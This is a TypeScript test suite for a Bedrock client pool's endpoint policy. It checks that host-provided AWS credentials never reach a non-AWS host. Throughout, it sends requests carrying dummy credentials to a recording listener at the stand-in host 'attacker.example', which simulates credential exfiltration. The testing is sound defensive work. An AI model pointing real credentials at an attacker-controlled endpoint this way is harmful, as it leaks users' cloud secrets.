import { ConverseCommand } from '@aws-sdk/client-bedrock-runtime';
import { BedrockPool, type BedrockPoolOptions, type CredentialSource } from '@bedrock-flow/bedrock-pool';
import { createComponent, type ComponentContext } from '@bedrock-flow/component';
import { amazonBedrockConverseDefinition } from '@bedrock-flow/converse';
import { amazonBedrockEmbeddingsDefinition } from '@bedrock-flow/embeddings';
import { amazonBedrockModelDefinition } from '@bedrock-flow/model';
import { startEmulator, type RunningEmulator } from '@bedrock-flow/emulator';
import { startAttacker, type AttackerListener } from './support/attacker-listener';
import { writeCredentialProcessProfile, type CredentialProcessProfile } from './support/credential-process-profile';
import { withHostEnvironment } from './support/host-environment';
import { installLoopbackGuard, type LoopbackGuard } from './support/loopback-guard';
import { generateTestCertificate, type TestCertificate } from './support/test-certificate';
import { startTlsFront, type TlsFront } from './support/tls-front';

/**
 * Issue 17's matrix: every way a node gets credentials × an AWS endpoint, a foreign https host and a foreign http host.
 * Every name resolves to loopback through the guard's table (no DNS query, no packet leaves the machine even if the
 * policy were broken): the AWS name reaches the emulator through a TLS front, `attacker.example` reaches a listener
 * that records every request and the credentials in it. Credentials the host provides must never reach the attacker;
 * every refusal must come before any connection.
 */

const AWS_NAME = 'bedrock-runtime.us-east-1.amazonaws.com';
const ATTACKER = 'attacker.example';
const MODEL_ID = 'anthropic.claude-3-haiku-20240307-v1:0';

// Host-provided credentials, each with markers the attacker searches its requests for.
const HOST_ENV_KEYS = { accessKeyId: 'AKIAHOSTENVIRONMENT1', secretAccessKey: 'hostEnvironmentSecret/0000000000000000001', sessionToken: 'HostEnvironmentSessionToken000000000000000000001' };
const HOST_ENV_LONG_TERM_KEYS = { accessKeyId: 'AKIAHOSTENVLONGTERM1', secretAccessKey: 'hostEnvironmentLongTermSecret/00000000001' };
const HOST_PROFILE_KEYS = { accessKeyId: 'AKIAHOSTPROFILE00001', secretAccessKey: 'hostProfileSecret/00000000000000000000001', sessionToken: 'HostProfileSessionToken000000000000000000000001' };
const HOST_VARIABLE_KEYS = { accessKeyId: 'AKIAHOSTVARIABLE0001', secretAccessKey: 'hostVariableSecret/0000000000000000000001' };
const HOST_API_KEY = 'host-bedrock-api-key-ABSKaG9zdC1hcGkta2V5LTAwMDAx';
// Credentials the flow author typed into the node.
const NODE_KEYS = { accessKeyId: 'AKIANODETYPED0000001', secretAccessKey: 'nodeTypedSecret/000000000000000000000001' };
const NODE_API_KEY = 'node-bedrock-api-key-ABSKbm9kZS1hcGkta2V5LTAwMDAx';

const HOST_MARKERS = [
  HOST_ENV_KEYS.accessKeyId,
  HOST_ENV_LONG_TERM_KEYS.accessKeyId,
  HOST_ENV_KEYS.sessionToken,
  HOST_PROFILE_KEYS.accessKeyId,
  HOST_PROFILE_KEYS.sessionToken,
  HOST_VARIABLE_KEYS.accessKeyId,
  HOST_API_KEY,
];

/** Everything the host has, in the environment at once: what an SDK default could pick up for a node-credential slot. */
const FULL_HOST_ENVIRONMENT = {
  AWS_ACCESS_KEY_ID: HOST_ENV_KEYS.accessKeyId,
  AWS_SECRET_ACCESS_KEY: HOST_ENV_KEYS.secretAccessKey,
  AWS_SESSION_TOKEN: HOST_ENV_KEYS.sessionToken,
  AWS_BEARER_TOKEN_BEDROCK: HOST_API_KEY,
};

type Column = 'aws' | 'foreign https' | 'foreign http';
type Outcome = 'ok' | 'refused' | `failed: ${string}`;

/** One credential source: how the node is configured and what the host's environment holds meanwhile. */
interface Row {
  label: string;
  origin: 'host' | 'node';
  env: () => Record<string, string>;
  /** The call of one cell: through the Converse component, or the pool directly (API key typed in the node). */
  call: (pool: BedrockPool, endpoint: string, nodeId: string) => Promise<unknown>;
  /** The principal the emulator must see on the AWS column. */
  principal: string;
  /** A marker of this row's own credentials (node rows: the attacker may see it on the foreign https column). */
  ownMarker: string;
}

interface Cell {
  outcome: Outcome;
  attackerRequests: number;
  withHostCredentials: number;
  withNodeCredentials: number;
  emulatorRequests: number;
  /** TCP connects the client side made (the TLS front's own relay connects to the emulator not counted). */
  connects: number;
}

let certificate: TestCertificate;
let emulator: RunningEmulator;
let front: TlsFront;
let attacker: AttackerListener;
let guard: LoopbackGuard;
let profile: CredentialProcessProfile;
const results = new Map<string, Partial<Record<Column, Cell>>>();

function converseCall(values: Record<string, unknown>, variables?: Record<string, string>, env: ComponentContext['env'] = false) {
  return async (pool: BedrockPool, endpoint: string, nodeId: string) => {
    const ctx: ComponentContext = { graphId: 'policy-matrix', nodeId, pool, env, ...(variables ? { variables } : {}) };
    const node = createComponent(amazonBedrockConverseDefinition, ctx, { ...values, model_id: MODEL_ID, endpoint_url: endpoint, input_value: 'hello' });
    return (await node.text_response()).text;
  };
}

const ROWS: Row[] = [
  {
    label: 'environment keys (default chain)',
    origin: 'host',
    env: () => ({ AWS_ACCESS_KEY_ID: HOST_ENV_KEYS.accessKeyId, AWS_SECRET_ACCESS_KEY: HOST_ENV_KEYS.secretAccessKey, AWS_SESSION_TOKEN: HOST_ENV_KEYS.sessionToken }),
    call: converseCall({}),
    principal: HOST_ENV_KEYS.accessKeyId,
    ownMarker: HOST_ENV_KEYS.accessKeyId,
  },
  {
    label: "environment keys (Langflow's default variable names)",
    origin: 'host',
    env: () => ({ AWS_ACCESS_KEY_ID: HOST_ENV_LONG_TERM_KEYS.accessKeyId, AWS_SECRET_ACCESS_KEY: HOST_ENV_LONG_TERM_KEYS.secretAccessKey }),
    // The inputs default to { variable: 'AWS_ACCESS_KEY_ID' } etc., resolved from the environment as Langflow does.
    call: (pool, endpoint, nodeId) => converseCall({}, undefined, process.env)(pool, endpoint, nodeId),
    principal: HOST_ENV_LONG_TERM_KEYS.accessKeyId,
    ownMarker: HOST_ENV_LONG_TERM_KEYS.accessKeyId,
  },
  {
    label: 'profile with credential_process',
    origin: 'host',
    env: () => ({ AWS_CONFIG_FILE: profile.configFile, AWS_SHARED_CREDENTIALS_FILE: profile.credentialsFile }),
    call: converseCall({ credentials_profile_name: 'shared' }),
    principal: HOST_PROFILE_KEYS.accessKeyId,
    ownMarker: HOST_PROFILE_KEYS.accessKeyId,
  },
  {
    label: 'host variable',
    origin: 'host',
    env: () => ({}),
    call: converseCall(
      { aws_access_key_id: { variable: 'TEAM_AWS_KEY' }, aws_secret_access_key: { value: 'TEAM_AWS_SECRET', load_from_db: true } },
      { TEAM_AWS_KEY: HOST_VARIABLE_KEYS.accessKeyId, TEAM_AWS_SECRET: HOST_VARIABLE_KEYS.secretAccessKey },
    ),
    principal: HOST_VARIABLE_KEYS.accessKeyId,
    ownMarker: HOST_VARIABLE_KEYS.accessKeyId,
  },
  {
    label: 'API key in the environment (AWS_BEARER_TOKEN_BEDROCK)',
    origin: 'host',
    env: () => ({ AWS_BEARER_TOKEN_BEDROCK: HOST_API_KEY }),
    call: converseCall({}),
    principal: 'bearer',
    ownMarker: HOST_API_KEY,
  },
  {
    label: 'static keys typed in the node (+ every host credential in the env)',
    origin: 'node',
    env: () => FULL_HOST_ENVIRONMENT,
    call: converseCall({ aws_access_key_id: NODE_KEYS.accessKeyId, aws_secret_access_key: NODE_KEYS.secretAccessKey }),
    principal: NODE_KEYS.accessKeyId,
    ownMarker: NODE_KEYS.accessKeyId,
  },
];

/** The API key typed into the node, through the pool (the component input for it comes with the bearer credential kind). */
const NODE_API_KEY_ROW: Row = {
  label: 'API key typed in the node (+ every host credential in the env)',
  origin: 'node',
  env: () => FULL_HOST_ENVIRONMENT,
  call: async (pool, endpoint, nodeId) => {
    const { client } = pool.acquire({ graphId: 'policy-matrix', nodeId }, { region: 'us-east-1', endpoint, credentials: nodeApiKey() });
    return client.send(new ConverseCommand({ modelId: MODEL_ID, messages: [{ role: 'user', content: [{ text: 'hello' }] }] }));
  },
  principal: 'bearer',
  ownMarker: NODE_API_KEY,
};

/** `{ kind: 'bearer', token, origin: 'node' }`, typed loosely: the kind comes with the Bedrock API key work. */
function nodeApiKey(token = NODE_API_KEY): CredentialSource {
  return { kind: 'bearer', token, origin: 'node' } as unknown as CredentialSource;
}

function clientConnects(): number {
  return guard.attempts.length - guard.connectsTo(Number(new URL(emulator.url).port));
}

function refusalIn(error: unknown): boolean {
  for (let e = error as { code?: unknown; cause?: unknown } | undefined; e; e = e.cause as typeof e) {
    if (e.code === 'ERR_BEDROCK_POOL_ENDPOINT_NOT_ALLOWED') return true;
  }
  return false;
}

function describeFailure(error: unknown): Outcome {
  const e = error as { name?: string; message?: string };
  return `failed: ${e.name ?? 'Error'}: ${(e.message ?? String(error)).slice(0, 140)}`;
}

async function runCell(row: Row, column: Column, index: number): Promise<Cell> {
  const endpoint = column === 'aws' ? `https://${AWS_NAME}:${front.port}` : column === 'foreign https' ? `https://${ATTACKER}:${attacker.httpsPort}` : `http://${ATTACKER}:${attacker.httpPort}`;
  const options: BedrockPoolOptions = { openTelemetry: false, idleTtlMs: 0, releaseGraceMs: 0, defaults: { tls: { ca: certificate.cert }, proxy: false, retry: { maxAttempts: 1 } } };
  // A pool per cell: the default chain and profile providers are memoised per pool, and each row's environment differs.
  const pool = new BedrockPool(options);
  const before = { attacker: attacker.requests.length, host: attacker.carrying(HOST_MARKERS), own: attacker.carrying([row.ownMarker]), emulator: emulator.stats().requests.total, connects: clientConnects() };
  let outcome: Outcome;
  try {
    await withHostEnvironment(row.env(), () => row.call(pool, endpoint, `AmazonBedrockConverseModel-${index}`));
    outcome = 'ok';
  } catch (error) {
    outcome = refusalIn(error) ? 'refused' : describeFailure(error);
  } finally {
    await pool.destroy();
  }
  return {
    outcome,
    attackerRequests: attacker.requests.length - before.attacker,
    withHostCredentials: attacker.carrying(HOST_MARKERS) - before.host,
    withNodeCredentials: row.origin === 'node' ? attacker.carrying([row.ownMarker]) - before.own : 0,
    emulatorRequests: emulator.stats().requests.total - before.emulator,
    connects: clientConnects() - before.connects,
  };
}

beforeAll(async () => {
  guard = installLoopbackGuard([AWS_NAME, ATTACKER]);
  certificate = await generateTestCertificate([AWS_NAME, ATTACKER]);
  emulator = await startEmulator({
    tls: false,
    credentials: [HOST_ENV_KEYS, HOST_ENV_LONG_TERM_KEYS, HOST_PROFILE_KEYS, HOST_VARIABLE_KEYS, NODE_KEYS],
    bearerTokens: [HOST_API_KEY, NODE_API_KEY],
  });
  front = await startTlsFront(certificate, Number(new URL(emulator.url).port));
  attacker = await startAttacker(certificate);
  profile = writeCredentialProcessProfile('shared', HOST_PROFILE_KEYS);
});

afterAll(async () => {
  await attacker?.close();
  await front?.close();
  await emulator?.close();
  profile?.remove();
  guard?.uninstall();
  const table = [...results].map(([row, cells]) => {
    const entry: Record<string, string> = { 'credential source': row };
    for (const [column, cell] of Object.entries(cells)) {
      entry[column] = `${cell.outcome}; attacker ${cell.attackerRequests} req (${cell.withHostCredentials} host cred, ${cell.withNodeCredentials} node cred); emulator ${cell.emulatorRequests}; connects ${cell.connects}`;
    }
    return entry;
  });
  console.table(table);
  const totals = [...results.values()].flatMap((cells) => Object.values(cells));
  console.info(
    `endpoint policy matrix: ${totals.length} cells, ${totals.filter((c) => c.outcome === 'refused').length} refused (0 connects each), ` +
      `${totals.reduce((n, c) => n + c.attackerRequests, 0)} requests reached the attacker, ${totals.reduce((n, c) => n + c.withHostCredentials, 0)} of them with host credentials; ` +
      `${guard?.attempts.filter((a) => !a.allowed).length ?? 0} connects off this machine refused by the guard (its self-test makes 3), ${guard?.lookups.filter((name) => ![AWS_NAME, ATTACKER, 'localhost'].includes(name)).length ?? 0} lookups of other names`,
  );
});

const EXPECTED: Record<'host' | 'node', Record<Column, Outcome>> = {
  host: { aws: 'ok', 'foreign https': 'refused', 'foreign http': 'refused' },
  node: { aws: 'ok', 'foreign https': 'ok', 'foreign http': 'refused' },
};

describe.each(ROWS.map((row, index) => [row.label, row, index] as const))('credentials: %s', (label, row, index) => {
  it.each(['aws', 'foreign https', 'foreign http'] as const)('endpoint: %s', async (column) => {
    const cell = await runCell(row, column, index);
    results.set(label, { ...results.get(label), [column]: cell });
    expect(cell.outcome).toBe(EXPECTED[row.origin][column]);
    // The invariant of the issue: nothing the host provided ever reaches a host outside AWS and loopback.
    expect(cell.withHostCredentials).toBe(0);
    if (cell.outcome === 'refused') {
      expect(cell.connects).toBe(0);
      expect(cell.attackerRequests + cell.emulatorRequests).toBe(0);
    }
    if (column === 'aws') {
      expect([cell.emulatorRequests, cell.attackerRequests]).toEqual([1, 0]);
      expect(emulator.stats().auth.byAccessKeyId[row.principal]).toBeGreaterThan(0);
    }
    if (column === 'foreign https' && row.origin === 'node') {
      // The node's own credentials go where its author sent them, and nothing else goes with them.
      expect([cell.attackerRequests, cell.withNodeCredentials, cell.emulatorRequests]).toEqual([1, 1, 0]);
    }
  });
});

describe('credentials: API key typed in the node', () => {
  it.each(['aws', 'foreign https', 'foreign http'] as const)('endpoint: %s', async (column) => {
    const cell = await runCell(NODE_API_KEY_ROW, column, ROWS.length);
    results.set(NODE_API_KEY_ROW.label, { ...results.get(NODE_API_KEY_ROW.label), [column]: cell });
    expect(cell.outcome).toBe(EXPECTED.node[column]);
    expect(cell.withHostCredentials).toBe(0);
    if (cell.outcome === 'refused') expect([cell.connects, cell.attackerRequests, cell.emulatorRequests]).toEqual([0, 0, 0]);
    if (column === 'aws') expect([cell.emulatorRequests, cell.attackerRequests]).toEqual([1, 0]);
    if (column === 'foreign https') expect([cell.attackerRequests, cell.withNodeCredentials, cell.emulatorRequests]).toEqual([1, 1, 0]);
  });
});

describe('the loopback guard itself', () => {
  it('refuses a connect off this machine and any name outside its table, without a DNS query', async () => {
    const { connect } = await import('node:net');
    const lookupsBefore = guard.lookups.length;
    for (const [host, port] of [['192.0.2.1', 443], ['example.com', 443], ['2001:db8::1', 443]] as const) {
      const socket = connect({ host, port });
      const error = await new Promise<NodeJS.ErrnoException>((resolve) => socket.once('error', resolve));
      expect(error.code).toBe('EGUARDREFUSED');
    }
    expect(guard.lookups.length).toBe(lookupsBefore);
    expect(guard.attempts.filter((attempt) => !attempt.allowed).map((attempt) => attempt.host)).toEqual(expect.arrayContaining(['192.0.2.1', 'example.com', '2001:db8::1']));
  });
});

describe('every component surfaces a refusal as its own error, naming endpoint_url, before any connection', () => {
  const calls = {
    AmazonBedrockConverseModel: (ctx: ComponentContext, values: Record<string, unknown>) => createComponent(amazonBedrockConverseDefinition, ctx, { ...values, input_value: 'hi' }).text_response(),
    AmazonBedrockModel: (ctx: ComponentContext, values: Record<string, unknown>) => createComponent(amazonBedrockModelDefinition, ctx, { ...values, input_value: 'hi' }).text_response(),
    AmazonBedrockEmbeddings: (ctx: ComponentContext, values: Record<string, unknown>) => createComponent(amazonBedrockEmbeddingsDefinition, ctx, values).build_embeddings().embedQuery('hi'),
  };
  it.each(Object.keys(calls) as Array<keyof typeof calls>)('%s', async (name) => {
    const pool = new BedrockPool({ openTelemetry: false, idleTtlMs: 0, defaults: { proxy: false } });
    const before = { connects: clientConnects(), attacker: attacker.requests.length };
    let error: unknown;
    try {
      await withHostEnvironment({ AWS_BEARER_TOKEN_BEDROCK: HOST_API_KEY }, async () => {
        await calls[name]({ graphId: 'policy-matrix', nodeId: `${name}-refused`, pool, env: false }, { endpoint_url: `https://${ATTACKER}:${attacker.httpsPort}/v1` });
      });
    } catch (caught) {
      error = caught;
    } finally {
      await pool.destroy();
    }
    expect(refusalIn(error)).toBe(true);
    expect((error as Error).message).toMatch(new RegExp(`endpoint_url https://${ATTACKER}:${attacker.httpsPort} is not allowed`));
    expect((error as Error).message).toContain('endpointPolicy.allowedHosts');
    expect([clientConnects() - before.connects, attacker.requests.length - before.attacker]).toEqual([0, 0]);
  });
});
